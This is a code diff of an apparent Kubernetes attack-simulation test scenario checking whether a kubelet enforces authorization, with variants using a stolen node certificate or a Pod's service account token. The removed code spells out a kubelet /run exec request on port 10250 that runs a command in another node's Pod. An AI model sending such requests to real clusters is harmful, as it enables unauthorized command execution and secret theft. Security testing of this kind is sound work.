@@ -1,18 +1,24 @@
 /**
  * worker-1's kubelet credential, or a Pod's token  --TLS-->  kubelet of worker-2 (knows the name, asks nobody what it may)
  */
-import { fallen } from '../../lib/scenario/footholds.ts'
-import type { Foothold } from '../../lib/attacker/foothold.ts'
-import { scenario, type Expectation } from '../../lib/scenario/scenario.ts'
+import { secretByKubelet } from '../../lib/attacker/reach-goal.ts'
+import { fallen, podOn } from '../../lib/scenario/footholds.ts'
+import { scenario, type Expectation, type Variant } from '../../lib/scenario/scenario.ts'
 
 const THROUGH: Expectation = { kind: 'through' }
-const TWIN = { through: { restore: 'kubelet-authorization-mode' } } as const
 const OPEN_ALREADY = { notApplicable: 'its kubelets are open to strangers: anon-kubelet-exec asks that question' }
 
-const POD: Foothold = {
-  name: 'a Pod of worker-2',
-  stands: { on: 'host', host: 'worker-2' },
-  holds: { 'credential.token': { fromPod: '/var/run/secrets/kubernetes.io/serviceaccount/token' } },
+const VARIANT: Omit<Variant, 'id' | 'title' | 'foothold'> = {
+  goal: { read: 'secret', node: 'worker-2' },
+  premise: ['kubelet-authorization-mode'],
+  expect: {
+    open: OPEN_ALREADY,
+    encrypted: OPEN_ALREADY,
+    kubeadm: THROUGH,
+    hardened: THROUGH,
+    'zero-trust': THROUGH,
+  },
+  twin: { through: { restore: 'kubelet-authorization-mode' } },
 }
 
 export default scenario({
@@ -27,43 +33,10 @@ sets another. Any name that the cluster knows is then enough to run a command in
   cis: ['4.2.2'],
   attack: ['T1609'],
   variants: [
-    {
-      id: 'a',
-      title: `with another kubelet's certificate`,
-      foothold: fallen('worker-1'),
-      goal: { read: 'secret', node: 'worker-2' },
-      premise: ['kubelet-authorization-mode'],
-      expect: {
-        open: OPEN_ALREADY,
-        encrypted: OPEN_ALREADY,
-        kubeadm: THROUGH,
-        hardened: THROUGH,
-        'zero-trust': THROUGH,
-      },
-      twin: TWIN,
-    },
-    {
-      id: 'b',
-      title: `with the token of a Pod that has no rights`,
-      foothold: POD,
-      goal: { read: 'secret', node: 'worker-2' },
-      premise: ['kubelet-authorization-mode'],
-      expect: {
-        open: OPEN_ALREADY,
-        encrypted: OPEN_ALREADY,
-        kubeadm: THROUGH,
-        hardened: THROUGH,
-        'zero-trust': THROUGH,
-      },
-      twin: TWIN,
-    },
+    { id: 'a', title: `with another kubelet's certificate`, foothold: fallen('worker-1'), ...VARIANT },
+    { id: 'b', title: `with the token of a Pod that has no rights`, foothold: podOn('worker-2'), ...VARIANT },
   ],
   async attempt(world) {
-    const { namespace, pod, node } = world.goal
-    const { body } = await world.request(`https://${world.network.hosts[node]}:10250`, {
-      method: 'POST',
-      path: `/run/${namespace}/${pod}/main?cmd=cat%20/etc/canary/value`,
-    })
-    return [body]
+    return secretByKubelet(world)
   },
 })
